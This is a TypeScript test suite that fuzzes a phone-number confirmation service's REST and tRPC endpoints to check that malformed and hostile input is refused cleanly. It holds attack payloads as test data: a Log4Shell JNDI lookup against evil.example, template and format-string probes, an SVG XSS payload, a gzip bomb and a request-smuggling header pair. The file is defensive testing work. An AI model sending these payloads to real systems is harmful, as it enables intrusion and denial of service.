import { gzipSync } from "node:zlib";
import Ajv2020, { type ValidateFunction } from "ajv/dist/2020";
import fc from "fast-check";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Answer, ask, askJson, askRaw } from "./ask";
import { countOf } from "./database";
import { type Doors, doorsOf, failureOf, REST, TRPC } from "./doors";
import { newNumber } from "./numbers";
import { type FuzzedRequest, mutatedRequests, type OpenApi, type Operation, validRequests } from "./openapi-arbitraries";
import { NO_LIMITS, type Service, startService } from "./service";

/** Requests of each kind for each operation. A long night: FUZZ_RUNS=10000 npm run test:attacks -- fuzz */
const RUNS = Number(process.env.FUZZ_RUNS || 100);
/** Printed with every failure; FUZZ_SEED repeats it. */
const SEED = Number(process.env.FUZZ_SEED || Date.now() % 2 ** 31);

let service: Service;
let doors: Doors;
let api: OpenApi;
let validate: (operation: { path: string; method: string }, answer: Answer) => string[];

beforeAll(async () => {
  service = await startService("fuzz", { settings: NO_LIMITS });
  doors = doorsOf(service.url);
  api = (await ask(service.url, { path: "/openapi.json" })).json as OpenApi;
  validate = answersOf(api);
});
afterAll(() => service.close());

/** What is wrong with an answer by the description alone: its status, media type, body and headers. */
function answersOf(document: OpenApi) {
  const ajv = new Ajv2020({ strict: false, validateFormats: false });
  ajv.addSchema(document, "openapi");
  const compiled = new Map<string, ValidateFunction>();
  return ({ path, method }: { path: string; method: string }, { status, headers, json, text }: Answer): string[] => {
    const described = document.paths[path]?.[method]?.responses[String(status)];
    if (!described) return [`status ${status} is not documented: ${text.slice(0, 200)}`];
    const [type = ""] = String(headers["content-type"]).split(";");
    if (!(type in described.content)) return [`media type ${type} is not documented`];
    const pointer = ["paths", path, method, "responses", String(status), "content", type, "schema"].map((part) => encodeURIComponent(part.replaceAll("~", "~0").replaceAll("/", "~1")));
    const reference = `openapi#/${pointer.join("/")}`;
    const check = compiled.get(reference) ?? ajv.compile({ $ref: reference });
    compiled.set(reference, check);
    const missing = Object.entries(described.headers ?? {}).filter(([name, { required }]) => required && headers[name.toLowerCase()] === undefined && !(name === "Allow" && failureCode(json) !== "method_not_allowed"));
    return [...(check(json) ? [] : [`the body is not as documented: ${text.slice(0, 300)} ${JSON.stringify(check.errors)}`]), ...missing.map(([name]) => `header ${name} is missing`)];
  };
}

function failureCode(json: unknown): unknown {
  return (json as { code?: unknown } | undefined)?.code;
}

function operations(): { path: string; method: string; operation: Operation }[] {
  return Object.entries(api.paths).flatMap(([path, methods]) => Object.entries(methods).map(([method, operation]) => ({ path, method, operation })));
}

function sent({ method, path, headers, body }: FuzzedRequest): Promise<Answer> {
  return ask(service.url, { method, path, headers, body });
}

test(`C-01 every request that the description allows gets a documented answer (seed ${SEED})`, async () => {
  expect(operations().length).toBeGreaterThanOrEqual(3);
  const statuses = new Set<string>();
  for (const { path, method, operation } of operations()) {
    const property = fc.asyncProperty(validRequests(path, method, operation), async (request) => {
      const answer = await sent(request);
      statuses.add(`${method} ${answer.status}`);
      expect(validate({ path, method }, answer)).toEqual([]);
      expect([500, 502, 503, 504]).not.toContain(answer.status);
    });
    await fc.assert(property, { numRuns: RUNS, seed: SEED });
  }
  // The generator gets beyond the first refusal.
  expect([...statuses]).toContain("post 201");
});

test(`C-01 every request broken in some way is refused with a documented answer, never with a fault (seed ${SEED})`, async () => {
  for (const { path, method, operation } of operations()) {
    const property = fc.asyncProperty(mutatedRequests(validRequests(path, method, operation)), async (request) => {
      const answer = await sent(request);
      expect(answer.status).toBeLessThan(500);
      // HEAD has no body, OPTIONS describes, and a query may name another address.
      if (["HEAD", "OPTIONS"].includes(request.method) || answer.status === 404) return;
      expect(validate({ path, method }, answer)).toEqual([]);
    });
    await fc.assert(property, { numRuns: RUNS, seed: SEED });
  }
});

test(`C-01 whatever is sent to a tRPC procedure is answered or refused by a documented code, never with a fault (seed ${SEED})`, async () => {
  const known = await knownCodes();
  for (const path of Object.values(TRPC)) {
    const field = fc.constantFrom("phoneNumber", "confirmationId", "code", "activationKey", "challenge", "json", "0", "__proto__");
    const input = fc.oneof(fc.dictionary(field, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }), fc.jsonValue({ maxDepth: 3 }));
    const property = fc.asyncProperty(input, fc.boolean(), fc.constantFrom("", "?batch=1", "?input=%7B", "?batch=1&input=%7B%7D"), async (value, asQuery, query) => {
      const read = asQuery && query === "";
      const answer = read
        ? await ask(service.url, { path: `${path}?input=${encodeURIComponent(JSON.stringify(value))}` })
        : await askJson(service.url, path + query, value);
      expect(answer.status).toBeLessThan(500);
      for (const each of Array.isArray(answer.json) ? (answer.json as unknown[]) : [answer.json]) {
        const code = failureOf({ ...answer, json: each }).code;
        if (answer.status >= 400) expect(known).toContain(code);
      }
    });
    await fc.assert(property, { numRuns: RUNS, seed: SEED });
  }
});

async function knownCodes(): Promise<string[]> {
  const document = (await ask(service.url, { path: "/openapi.json" })).json as { components: { schemas: { Failure: { properties: { code: { enum: string[] } } } } } };
  return document.components.schemas.Failure.properties.code.enum;
}

const JSON_BODY = JSON.stringify({ phone_number: "+12025550123", phoneNumber: "+12025550123" });
const FOREIGN_TYPES = ["text/plain", "application/json; charset=utf-7", "application/json; charset=utf-16", "application/jsonx", "text/json", "application/xml", "application/octet-stream", "application/json, text/plain"];

test("C-03 a body under a media type that is not read is refused unread, through either door", async () => {
  const rows = await countOf(service, "Confirmation");
  const messages = service.gateway.messages.length;
  for (const type of FOREIGN_TYPES) {
    for (const path of [REST.request, TRPC.request]) {
      const { status } = await ask(service.url, { method: "POST", path, headers: { "content-type": type }, body: JSON_BODY });
      expect({ type, path, status }).toEqual({ type, path, status: 415 });
    }
  }
  for (const path of [REST.request, TRPC.request]) {
    expect((await ask(service.url, { method: "POST", path, body: JSON_BODY })).status).toBe(415);
    expect((await ask(service.url, { method: "POST", path, headers: { "content-type": "multipart/form-data; boundary=x" }, body: "--x--" })).status).toBeGreaterThanOrEqual(400);
  }
  expect(await countOf(service, "Confirmation")).toBe(rows);
  expect(service.gateway.messages.length).toBe(messages);
});

test("C-03 a compressed bomb is refused without being unpacked", async () => {
  const bomb = gzipSync(Buffer.alloc(7_000_000, " "));
  expect(bomb.length).toBeLessThan(8192);
  for (const path of [REST.request, TRPC.request]) {
    for (const encoding of ["gzip", "GZIP", "gzip, gzip", "deflate", "br"]) {
      const { status } = await ask(service.url, { method: "POST", path, headers: { "content-type": "application/json", "content-encoding": encoding }, body: bomb });
      expect({ encoding, path, status }).toEqual({ encoding, path, status: 415 });
    }
  }
});

test("C-04 texts of any script, direction or length end in a refusal of their field, and none comes back unescaped", async () => {
  const texts = ["😀".repeat(2000), "\u202e+12025550123\u202c", "${jndi:ldap://evil.example/x}", "{{7*7}}", "%s%n%x", "<svg onload=alert(1)>", "\u0000\u0001\u001b[2J", "https://evil.example", "a\r\nb"];
  for (const text of texts) {
    const answers = [await doors.request(text), await doors.restRequest(text), await doors.restCheck(text, text), await doors.restRead(text)];
    for (const { status, headers } of answers) {
      expect([200, 201, 400, 413, 414, 431]).toContain(status);
      expect(String(headers["content-type"])).toMatch(/^application\/json|undefined/);
    }
  }
});

test("C-06 numbers made to be slow to parse are answered in no time", async () => {
  const slow = ["1".repeat(250), `+${"1".repeat(249)}`, `+1202555${" ext".repeat(60)}`, "(-) ".repeat(62), `+${" ".repeat(248)}1`, "+1;phone-context=".repeat(14), "١".repeat(250), "\u202d".repeat(249) + "1"];
  for (const text of [...slow, "1".repeat(8000), " ".repeat(8000)]) {
    const startedAt = performance.now();
    expect((await doors.request(text)).status).toBe(400);
    expect((await doors.restCheck(text, "123456")).status).toBe(400);
    expect(performance.now() - startedAt).toBeLessThan(10_000);
  }
});

test("C-01 bytes that are no HTTP end their own connection and nobody else's", async () => {
  const rubbish = ["\u0000\u0001\u0002", "GET / HTTP/9.9\r\n\r\n", "GET\r\n\r\n", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", `GET / HTTP/1.1\r\nHost: x\r\nA: ${"a".repeat(20_000)}\r\n\r\n`, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"];
  for (const bytes of rubbish) {
    const raw = await askRaw(service.port, bytes.endsWith("\r\n\r\n") ? bytes : `${bytes}\r\n\r\n`);
    expect(raw === "" || /^HTTP\/1\.1 4\d\d/.test(raw)).toBe(true);
  }
  expect((await doors.request(newNumber())).status).toBe(200);
});
